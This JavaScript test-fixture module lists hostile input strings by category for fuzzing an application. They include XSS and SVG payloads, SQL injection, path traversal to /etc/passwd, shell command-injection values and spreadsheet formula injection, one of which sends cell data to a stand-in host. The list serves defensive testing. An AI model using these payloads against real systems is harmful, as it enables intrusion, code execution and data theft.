// Words that want to be something else, by what they hope to meet. A script that runs sets `ran`.
// OUTWARD_HOSTILE names a file with more of them: a JSON list of texts, or one on each line.

import { readFileSync } from "node:fs";

const lone = (code) => String.fromCharCode(code);

/** All are Unicode that JSON can carry; what it cannot is in `half_characters`. */
export const categories = {
  html: [
    "<script>ran=1</script>",
    "</script><script>ran=1</script>",
    "<ScRiPt src=/assets/x.js></sCrIpT>",
    "<img src=x onerror=ran=1>",
    "<img/src=`x`onerror=ran=1>",
    '<img src="x" onerror="ran=1"',
    "<body onload=ran=1>",
    '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
    "<iframe src=javascript:parent.ran=1>",
    "<object data=javascript:ran=1>",
    "<embed src=data:text/html,<script>ran=1</script>>",
    "<details open ontoggle=ran=1>",
    "<input autofocus onfocus=ran=1>",
    "<video><source onerror=ran=1></video>",
    "<marquee onstart=ran=1>walk</marquee>",
    '<meta http-equiv="refresh" content="0;url=/host">',
    '<base href="https://outward.invalid/">',
    '<link rel=stylesheet href="https://outward.invalid/a.css">',
    "<style>*{display:none}</style>",
    '<form action="https://outward.invalid/"><input name=key></form>',
    "<form id=ran><input name=key></form>",
    '<a href="javascript:ran=1" autofocus>here</a>',
    "<template><script>ran=1</script></template>",
    "<textarea></textarea><script>ran=1</script>",
    "</textarea></title></style></noscript><script>ran=1</script>",
    "<!-- --!><script>ran=1</script> -->",
    "<![CDATA[<script>ran=1</script>]]>",
    "<?xml version='1.0'?><x onload=ran=1 />",
    "<b>bold</b> & <i>not</i> &amp; &lt;script&gt; &#60;u&#62;",
    "<x onclick=ran=1 style=position:fixed;inset:0>click",
    "<noscript><p title='</noscript><img src=x onerror=ran=1>'>",
    "a <3 b, 5 > 4 and </p></li></div></main></body></html>",
  ],
  svg: [
    "<svg onload=ran=1>",
    "<svg><script>ran=1</script></svg>",
    "<svg><a xlink:href=javascript:ran=1><rect width=9 height=9 /></a></svg>",
    "<svg><animate onbegin=ran=1 attributeName=x dur=1s>",
    "<svg><foreignObject><img src=x onerror=ran=1></foreignObject></svg>",
    "<svg><style><img src=x onerror=ran=1></style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=ran=1>",
  ],
  attributes: [
    '" onmouseover="ran=1',
    "' onfocus='ran=1' autofocus='",
    '"><img src=x onerror=ran=1>',
    "'><svg onload=ran=1>",
    '" style="background:url(https://outward.invalid/a)',
    "` onerror=ran=1 `",
    '"/><script>ran=1</script>',
    "x\u0000onerror=ran=1",
    "x\tonclick\n=\nran=1 ",
    'dangerouslySetInnerHTML={{__html:"<img src=x onerror=ran=1>"}}',
  ],
  templates: [
    "{{constructor.constructor('ran=1')()}}",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a text, not a template
    "${ran=1}",
    "#{ran=1}",
    "<%= ran=1 %>",
    "{% raw %}{{ran}}{% endraw %}",
    "{text} {name} {count} {step} {code}",
    "{0} {} {{}} {{{x}}}",
    "$& $1 $` $' $$",
    "%(name)s %{name} :name @name",
  ],
  addresses: [
    "javascript:ran=1",
    "JaVaScRiPt:ran=1//",
    "java\tscript:ran=1",
    " javascript:ran=1",
    "javascript://outward.invalid/%0aran=1",
    "data:text/html,<script>ran=1</script>",
    "vbscript:ran=1",
    "blob:https://outward.invalid/1",
    "https://outward.invalid/?a=<b>&c=\"d\"'e'",
    "//outward.invalid/a",
    "http://user:word@127.0.0.1:1/",
    "www.outward.invalid and mail to a@outward.invalid",
    "http:/\\outward.invalid",
  ],
  styles: [
    "}*{display:none}/*",
    "expression(ran=1)",
    "url(https://outward.invalid/a.png)",
    "@import 'https://outward.invalid/a.css';",
    "</style><style>body{opacity:0}",
    "color:red;position:fixed;top:0;left:0;width:100vw;height:100vh",
    "\\3c script\\3e ran=1",
  ],
  strings: [
    '";ran=1;//',
    "';ran=1;//",
    "`;ran=1;//",
    "\\",
    "\\\\",
    '\\"',
    "\\u003cscript\\u003eran=1\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=ran=1\\x3e",
    '","text":"another","x":"',
    '{"__proto__":{"ran":1}}',
    "__proto__",
    "constructor",
    "toString",
    "]]>",
    "*/ran=1/*",
    "null",
    "undefined",
    "NaN",
    "[object Object]",
    "line\u2028separator and paragraph\u2029separator",
  ],
  directions: [
    "\u202eesrever",
    "\u202e<tpircs>ran=1</tpircs>",
    "\u202dleft \u202eright\u202c left",
    "\u2066isolated\u2069 \u2067right\u2069 \u2068first",
    "\u2067never closed",
    "\u200fRight \u061cto\u200e left",
    "شارع آمن للأطفال (a) 123",
    "שכונה טובה <b>יותר</b>",
    "\u202a\u202a\u202a\u202a\u202b\u202b\u202b\u202b",
  ],
  invisible: [
    "zero\u200bwidth\u200cjoin\u200der\u2060word",
    "\ufeffmark in front",
    "soft\u00adhyphen\u00adated",
    "\u2800braille blank\u2800",
    "\u3164hangul filler\u3164",
    "\u180evowel separator",
    "tag\u{e0041}\u{e0042}\u{e007f}ged",
    "variation\ufe0f\ufe0e\u{e0100}",
    "invisible\u2062times\u2063comma\u2064plus",
    "\ufff9annotated\ufffabelow\ufffb",
    "non\uffffcharacters\ufdd0\u{1fffe}",
  ],
  towers: [
    `Z${"\u0300\u0315\u0327\u0489".repeat(12)}a${"\u0334\u035f\u0361".repeat(12)}`,
    `e${"\u0301".repeat(50)}`,
    "ﷺ﷽𒐫𒈙⸻꧅",
    "ก็็็็็็็็็็็็็็็็็็็็",
    "👩‍👩‍👧‍👦👩🏽‍🌾🏳️‍🌈🇸🇨🏴󠁧󠁢󠁳󠁣󠁴󠁿",
    "𝕳𝖊𝖑𝖑𝖔 𐍈 𠜎 🄰",
    "Ａ＜script＞ran=1＜/script＞",
    "‹script›ran=1‹/script›",
    "ʼn ſ K İ ı ß ẞ ﬁ Ǆ",
    "nai\u0308ve cafe\u0301 \u1100\u1161\u11a8",
  ],
  controls: [
    "nul\u0000in the middle",
    "\u0000",
    "bell\u0007back\u0008vertical\u000bform\u000c",
    "escape\u001b[31mred\u001b[0m\u001b[2J",
    "\u001b]0;title\u0007\u001b]8;;https://outward.invalid/\u0007link",
    "\u009b31mc1 csi\u0085next line",
    "carriage\rreturn",
    "line\nfeed and\r\nboth",
    "\ttab\tin front",
    "delete\u007f\u0080\u009f",
    "data: x\n\nevent: y\nid: 1",
    "a\r\nSet-Cookie: ran=1\r\n\r\n<script>ran=1</script>",
  ],
  long: [
    "w".repeat(300),
    "Donaudampfschifffahrtsgesellschaftskapitänsmützenabzeichen".repeat(4),
    "漢".repeat(200),
    "👩‍👩‍👧‍👦".repeat(30),
    `https://outward.invalid/${"a".repeat(250)}`,
    "_".repeat(60),
    "\u00a0no\u00a0break".repeat(25),
    "/".repeat(120),
  ],
  formulas: [
    "=1+1",
    '=HYPERLINK("https://outward.invalid/"&A1,"open")',
    "=cmd|'/c calc'!A1",
    "+1+1",
    "-1+1",
    "- a list, not a sum",
    "@SUM(1+1)",
    "@maria said so",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '"=1+1',
    '",=1+1,"',
    "a,b;c\t=1+1",
    "'=1+1",
    "＝1+1",
    "－1",
    " =1+1",
    "\ufeff=1+1",
    "\u0000=1+1",
    "0001 and 1e9",
    "2026-01-02",
  ],
  markdown: [
    "# heading",
    "heading\n=======",
    "text\n---",
    "> quotation",
    "* item\n* item",
    "1. item\n2) item",
    "[link](javascript:ran=1)",
    "![picture](https://outward.invalid/a.png)",
    "[ref]: https://outward.invalid/ 'x'",
    "<https://outward.invalid/>",
    "```\ncode\n```",
    "    code",
    "`code` ``more`` **bold** _it_ ~~gone~~ ==mark==",
    "| a | b |\n|---|---|\n| c | d |",
    "[^1] [x] [ ] :smile: $x^2$ \\(y\\)",
    "end\\",
    "two spaces  \nbreak",
    "***",
    "\n\n# after two lines",
    "- [ ] task",
    "term\n: definition",
    "&copy; &#x3c;b&#x3e;",
    "---\ntitle: front matter\n---",
    "https://outward.invalid/bare",
  ],
  formats: [
    "%s %d %n %x %%",
    "%00 %0a %0d%0a %2e%2e%2f %3Cscript%3E",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/dev/null",
    "C:\\CON",
    "file.csv\u0000.html",
    "$(touch ran) `touch ran`",
    "; touch ran #",
    "| touch ran",
    "~ * ? ! ^",
  ],
  queries: [
    "'; DROP TABLE events; --",
    "' OR '1'='1",
    '" OR ""="',
    "1; ATTACH DATABASE 'x' AS y",
    "%' ESCAPE '\\",
    "x' UNION SELECT key FROM keys --",
    "Robert'); DELETE FROM notes;--",
    "@p :p ?1 $p",
  ],
};

/** Halves of characters: JavaScript has them, Unicode and the server do not. */
export const half_characters = [
  `first ${lone(0xd83d)}`,
  `${lone(0xde00)} second`,
  `${lone(0xde00)}${lone(0xd83d)} in the wrong order`,
];

const given = process.env.OUTWARD_HOSTILE;

/** All texts, each once. */
export const texts = [
  ...new Set([...Object.values(categories).flat(), ...(given ? read(given) : [])]),
];

/** One of each kind. */
export const samples = Object.values(categories).map(([first]) => first);

function read(file) {
  const content = readFileSync(file, "utf8");
  const list = content.trimStart().startsWith("[") ? JSON.parse(content) : content.split("\n");
  return list.filter((text) => typeof text === "string" && text.isWellFormed() && text !== "");
}

/** The texts put together so that few fields take many; what is too long for the field is left out. */
export function packed(list, longest) {
  const lengthOf = (text) => [...text].length;
  const packs = [];
  for (const text of list.filter((text) => lengthOf(text) <= longest)) {
    const last = packs.at(-1);
    const together = last === undefined ? text : `${last} ${text}`;
    if (last === undefined || lengthOf(together) > longest) packs.push(text);
    else packs[packs.length - 1] = together;
  }
  return packs;
}
